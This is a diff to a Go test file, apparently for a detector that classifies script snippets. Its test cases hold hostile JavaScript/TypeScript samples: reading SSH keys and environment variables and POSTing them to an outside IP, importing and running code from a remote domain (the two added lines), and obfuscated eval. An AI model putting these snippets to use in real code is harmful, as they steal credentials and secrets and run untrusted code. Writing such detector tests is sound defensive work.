@@ -61,6 +61,8 @@ func TestAttacks(t *testing.T) {
 		{"js", "const fs = require('fs'), os = require('os');\nfs.readdirSync(os.homedir() + '/.ssh').forEach(f => fetch('http://203.0.113.9', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/' + f) }));", "send credential ip"},
 		{"js", "const x = new XMLHttpRequest(); x.open('POST', 'http://203.0.113.9/c'); x.send(JSON.stringify(process.env));", "send env-all ip"},
 		{"js", "axios({ method: 'post', url: 'http://203.0.113.9/c', data: process.env });", "send env-all ip"},
+		{"ts", "import { run } from 'https://quietmoth.dev/p.ts';\nrun();", "run loaded network unknown"},
+		{"js", "import 'https://quietmoth.dev/p.js';", "run loaded network unknown"},
 		{"js", "import { $ } from 'zx';\nawait $`SH`;", "sh: SH"},
 		{"js", "eval(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString())", "js: console.log(1)"},
 		{"js", "eval([99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 49, 41].map(c => String.fromCharCode(c)).join(''))", "js: console.log(1)"},
